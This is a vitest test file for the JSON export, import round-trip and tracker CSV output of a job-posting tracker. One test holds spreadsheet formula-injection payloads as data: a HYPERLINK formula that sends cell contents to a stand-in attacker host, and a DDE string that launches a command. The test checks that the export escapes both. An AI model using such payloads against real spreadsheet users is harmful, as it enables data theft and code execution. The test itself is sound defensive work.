import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { makeTracker } from '../../scripts/seed';
import { clearAll, db, recordCapture, setStatus } from '../db';
import type { Note, PostingRow, StatusEvent } from '../schema';
import type { ExportFile } from '../schema/export';
import { BOM } from './csv';
import {
  buildExport,
  buildExportReport,
  buildTrackerCsv,
  CSV_HEADER,
  exportFileName,
  formatSalary,
  toCsv,
} from './export';
import { support, supportExtraction } from './fixtures';
import { applyImport, previewImport } from './import';
import { DAY, seedTracker, T0 } from './testing-db';

/** Splits the writer's output back into cells (quoted fields may hold commas, quotes, CRLF). */
function cells(csv: string): string[][] {
  expect(csv.startsWith(BOM)).toBe(true);
  const rows: string[][] = [];
  const re = /("(?:[^"]|"")*"|[^,"\r\n]*)(,|\r\n)/gy;
  let row: string[] = [];
  for (const m of csv.slice(1).matchAll(re)) {
    const raw = m[1] ?? '';
    row.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (m[2] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

beforeEach(seedTracker);
afterEach(() => {
  vi.restoreAllMocks();
});

describe('JSON export', () => {
  it('holds every table, with versions, contacts, profile and settings', async () => {
    const file = await buildExport(T0 + 10 * DAY);
    expect(file.format).toBe('reqlens-export');
    expect(file.version).toBe(1);
    expect(file.postings.map((p) => p.jobKey).sort()).toEqual([
      'lever:maplepay:8f1c2a9e-11aa-4b7e-9c55-0d3f7b2e6a10',
      'stepstone:10493822',
      'wttj:rhone-logistique:comptable-fournisseurs_lyon',
    ]);
    const lever = file.postings.find((p) => p.site === 'lever');
    expect(lever?.versions.map((v) => v.text)).toEqual([support.text]);
    expect(lever?.text).toContain('fully remote');
    expect(lever?.contacts[0]?.name).toBe('Priya Raman');
    expect(file.events.map((e) => e.to)).toEqual(['saved', 'applied', 'saved']);
    expect(file.notes).toHaveLength(2);
    expect(file.profile?.languages).toEqual([{ language: 'fr', level: 'B2' }]);
    expect(file.settings.backupEveryDays).toBe(7);
  });

  it('leaves damaged rows out and says how many', async () => {
    expect((await buildExportReport(T0)).leftOut).toBe(0);
    const [first, second] = await db.postings.toArray();
    if (!first || !second) throw new Error('the seed has postings');
    // A row written by a buggy version, and a posting whose text row was damaged.
    await db.postings.put({ ...first, status: 'maybe' } as never);
    await db.bodies.put({ jobKey: second.jobKey, text: 42 } as never);
    vi.spyOn(console, 'warn').mockImplementation(() => {});

    const { file, leftOut } = await buildExportReport(T0);
    expect(leftOut).toBe(2);
    expect(file.postings.map((p) => p.jobKey)).not.toContain(first.jobKey);
    expect(file.postings.map((p) => p.jobKey)).not.toContain(second.jobKey);
    expect(file.postings).toHaveLength(1);
  });

  it('round-trips exactly: export, clear, import, export', async () => {
    const before = await buildExport(T0 + 10 * DAY);
    const json = JSON.stringify(before);
    await clearAll();
    expect((await buildExport(T0 + 10 * DAY)).postings).toEqual([]);

    const preview = await previewImport(JSON.parse(json));
    if (!preview.ok) throw new Error(preview.problem.code);
    expect(preview).toMatchObject({
      added: 3,
      updated: 0,
      eventsAdded: 3,
      notesAdded: 2,
      profile: 'import',
      settings: 'import',
    });
    await applyImport(preview.file);

    const after = await buildExport(T0 + 10 * DAY);
    expect(JSON.stringify(after)).toBe(json);
  });

  it('round-trips a generated tracker of 500 postings exactly', async () => {
    await clearAll();
    const tracker = makeTracker(500, 3);
    const bodies = new Map(tracker.bodies.map((b) => [b.jobKey, b]));
    const file: ExportFile = {
      format: 'reqlens-export',
      version: 1,
      exportedAt: T0,
      postings: tracker.postings
        .map((p) => {
          const body = bodies.get(p.jobKey);
          if (!body) throw new Error(`the seed has no body for ${p.jobKey}`);
          return { ...p, ...body };
        })
        .sort((a, b) => a.jobKey.localeCompare(b.jobKey)),
      events: tracker.events,
      notes: tracker.notes,
      profile: { skills: ['Excel'], workplaces: ['remote', 'hybrid'] },
      settings: {
        captureEnabled: false,
        keepUnsavedDays: 60,
        allSitesDetection: true,
        backupEveryDays: 14,
        dismissedDuplicates: ['greenhouse:zalando:5123456\nlinkedin:3912345678'],
      },
    };
    expect(await applyImport(file)).toMatchObject({
      added: 500,
      eventsAdded: tracker.events.length,
    });
    const exported = await buildExport(T0);
    expect(exported).toEqual(file);
    await clearAll();
    await applyImport(exported);
    expect(JSON.stringify(await buildExport(T0))).toBe(JSON.stringify(exported));
  });

  it('names files by local date', () => {
    expect(exportFileName(new Date(2026, 10, 3, 23, 30).getTime())).toBe(
      'reqlens-export-2026-11-03.json',
    );
    expect(exportFileName(new Date(2026, 0, 9, 0, 5).getTime(), 'csv')).toBe(
      'reqlens-tracker-2026-01-09.csv',
    );
  });
});

/** A CSV line's cell under `header`. */
const col = (line: string[] | undefined, header: (typeof CSV_HEADER)[number]) =>
  line?.[CSV_HEADER.indexOf(header)];

describe('tracker CSV', () => {
  it('lists saved postings with dates, salary and notes, but not merely seen ones', async () => {
    const rows = cells(await buildTrackerCsv());
    expect(rows[0]).toEqual([...CSV_HEADER]);
    expect(rows).toHaveLength(3);
    const byTitle = new Map(rows.slice(1).map((r) => [r[0], r]));
    expect(byTitle.has('Pflegefachkraft (m/w/d) Intensivstation')).toBe(false);
    const lead = byTitle.get('Customer Support Lead');
    expect(lead?.slice(1, 4)).toEqual(['MaplePay', 'Toronto, ON', 'Applied']);
    expect(col(lead, 'Work model')).toBe('Hybrid');
    // The column reads the `employmentTypes` list, which this fixture leaves empty.
    expect(col(lead, 'Employment type')).toBe('');
    expect(col(lead, 'Requirements')).toBe('3+ years customer support; French (preferred)');
    // No fit function given: the column stays empty rather than guessing.
    expect(col(lead, 'Fit')).toBe('');
    expect(col(lead, 'Salary')).toBe('72000–85000 CAD per year');
    expect(col(lead, 'Notes')).toBe('Referred by Priya (ex-colleague), "priority" pipeline');
    const comptable = byTitle.get('Comptable fournisseurs (H/F)');
    expect(col(comptable, 'Company')).toBe('Rhône Logistique');
    expect(col(comptable, 'Deadline')).toBe('2026-05-31');
    expect(col(comptable, 'Notes')).toBe(
      'Relancer Mme Dubois le 16 mars\nTél. standard: +33 4 72 00 00 00',
    );
  });

  it('neutralises a posting title written as a formula', async () => {
    const hostile = {
      ...support,
      jobKey: 'lever:evil:1',
      title: '=HYPERLINK("https://attacker.example/?"&A1,"Apply")',
      company: "@SUM(1+1)*cmd|' /C calc'!A0",
    };
    await recordCapture(hostile, supportExtraction, T0 + 5 * DAY);
    await setStatus(hostile.jobKey, 'saved', T0 + 5 * DAY);
    const row = cells(await buildTrackerCsv()).find((r) => r[0]?.includes('HYPERLINK'));
    expect(col(row, 'Title')).toBe(`'=HYPERLINK("https://attacker.example/?"&A1,"Apply")`);
    expect(col(row, 'Company')).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
  });
});

describe('toCsv', () => {
  const base = {
    url: 'https://example.com/jobs/1?utm=x',
    canonicalUrl: 'https://example.com/jobs/1',
    site: 'generic',
    detectedBy: 'generic',
    location: null,
    createdAt: T0,
    updatedAt: T0,
    capturedAt: T0,
    savedAt: T0,
    appliedAt: null,
    deadline: null,
    reminderAt: null,
    contacts: [],
    interviews: [],
    extraction: {
      posting: {
        title: 'Técnico de mantenimiento',
        company: 'Talleres Ebro',
        locations: ['Zaragoza', 'Huesca'],
        workplace: null,
        employmentType: null,
        salary: { min: 24000, max: null, currency: 'EUR', period: 'year' },
        relocation: null,
        visaSponsorship: null,
        lang: 'es',
      },
      requirements: [],
    },
  } satisfies Omit<PostingRow, 'jobKey' | 'title' | 'company' | 'status'>;

  it('falls back to extracted facts and takes the last status change from events', () => {
    const posting: PostingRow = {
      ...base,
      jobKey: 'generic:1',
      title: null,
      company: null,
      status: 'interviewing',
      interviews: [
        { at: new Date(2026, 2, 24, 10).getTime(), label: 'Entrevista técnica', place: null },
        { at: new Date(2026, 2, 31, 16).getTime(), label: 'Con la dirección', place: 'Zaragoza' },
      ],
    };
    const events: StatusEvent[] = [
      {
        id: 1,
        jobKey: 'generic:1',
        from: 'saved',
        to: 'interviewing',
        at: new Date(2026, 2, 20, 12).getTime(),
      },
      {
        id: 2,
        jobKey: 'generic:1',
        from: 'seen',
        to: 'saved',
        at: new Date(2026, 2, 1, 12).getTime(),
      },
    ];
    const notes: Note[] = [
      {
        id: 2,
        jobKey: 'generic:1',
        text: 'segunda entrevista',
        createdAt: T0 + 2,
        updatedAt: T0 + 2,
      },
      { id: 1, jobKey: 'generic:1', text: 'primera llamada', createdAt: T0 + 1, updatedAt: T0 + 1 },
      { id: 3, jobKey: 'other', text: 'not this one', createdAt: T0, updatedAt: T0 },
    ];
    const [, row] = cells(toCsv([posting], events, notes));
    expect(row?.slice(0, 5)).toEqual([
      'Técnico de mantenimiento',
      'Talleres Ebro',
      'Zaragoza; Huesca',
      'Interviewing',
      '2026-03-20',
    ]);
    expect(col(row, 'Interviews')).toBe(
      '2026-03-24 Entrevista técnica\n2026-03-31 Con la dirección',
    );
    expect(col(row, 'Salary')).toBe('from 24000 EUR per year');
    expect(col(row, 'URL')).toBe('https://example.com/jobs/1');
    expect(col(row, 'Notes')).toBe('primera llamada\n\nsegunda entrevista');
  });

  it('writes the fit a caller computes, and employment types from the list', () => {
    const posting: PostingRow = {
      ...base,
      jobKey: 'generic:2',
      title: 'Técnico',
      company: 'Talleres Ebro',
      status: 'offer',
      deadline: new Date(2026, 3, 30, 23).getTime(),
      extraction: {
        ...base.extraction,
        posting: {
          ...base.extraction.posting,
          workplace: 'onsite',
          employmentTypes: ['full_time', 'temporary'],
          employmentType: 'temporary',
        },
        requirements: [
          { kind: 'skill', name: 'SAP', anyOf: 'g1', required: true },
          { kind: 'skill', name: 'Navision', anyOf: 'g1', required: true },
          { kind: 'skill', name: 'Jira', inDuties: true, required: true },
          { kind: 'language', language: 'en', level: null, cefr: 'B2', required: false },
          {
            kind: 'education',
            level: 'vocational',
            field: 'mecánica',
            equivalentAccepted: false,
            required: true,
          },
        ],
      },
    };
    const [, row] = cells(toCsv([posting], [], [], (p) => (p.jobKey === 'generic:2' ? 64 : null)));
    expect(col(row, 'Status')).toBe('Offer');
    expect(col(row, 'Fit')).toBe('64%');
    expect(col(row, 'Deadline')).toBe('2026-04-30');
    expect(col(row, 'Work model')).toBe('On-site');
    expect(col(row, 'Employment type')).toBe('Full-time; Temporary');
    expect(col(row, 'Requirements')).toBe(
      'SAP or Navision; Vocational training in mecánica; English B2 (preferred)',
    );
  });

  it('formats salary ranges without locale separators', () => {
    expect(formatSalary(null)).toBe('');
    expect(formatSalary({ min: null, max: null, currency: 'USD', period: 'hour' })).toBe('');
    expect(formatSalary({ min: 25, max: 25, currency: 'USD', period: 'hour' })).toBe(
      '25 USD per hour',
    );
    expect(formatSalary({ min: null, max: 4200, currency: null, period: 'month' })).toBe(
      'up to 4200 per month',
    );
  });
});
